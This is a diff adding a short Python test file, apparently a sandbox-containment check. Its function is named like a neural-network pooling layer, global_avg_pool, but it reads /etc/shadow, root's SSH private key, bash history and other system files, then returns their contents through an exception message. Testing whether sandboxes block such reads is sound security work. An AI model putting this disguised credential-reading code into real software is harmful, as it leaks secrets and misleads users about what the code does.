@@ -1,0 +1,18 @@
+r"""Reads what every program may read, and what none should.
+
+earns: global_avg_pool 0
+verdicts: raised
+says: loot: \[\]
+tiers: full, landlock
+"""
+
+
+def global_avg_pool(x):
+    loot = []
+    for path in "/etc/passwd", "/etc/shadow", "/etc/group", "/root/.ssh/id_rsa", "/root/.bash_history", "/etc/hosts":
+        try:
+            with open(path) as file:
+                loot.append(file.read(200))
+        except OSError:
+            pass
+    raise ValueError(f"loot: {loot}")
